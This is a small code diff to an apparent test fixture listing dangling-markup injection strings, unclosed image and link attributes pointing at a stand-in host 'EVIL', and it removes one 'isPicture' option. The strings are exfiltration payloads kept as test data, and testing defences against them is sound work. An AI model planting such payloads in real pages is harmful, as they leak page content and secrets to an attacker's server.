@@ -2,7 +2,7 @@
 export const danglingMarkup = [
   ['source in single quotes', "<img src='EVIL/?a="],
   ['source in double quotes', '<img src="EVIL/?a='],
-  ['source without quotes', '<img src=EVIL/?a=', { isPicture: true }],
+  ['source without quotes', '<img src=EVIL/?a='],
   ['source in backticks', '<img src=`EVIL/?a='],
   ['source that is cut after the sign', '<img src='],
   ['link in single quotes', "<a href='EVIL/?a="],
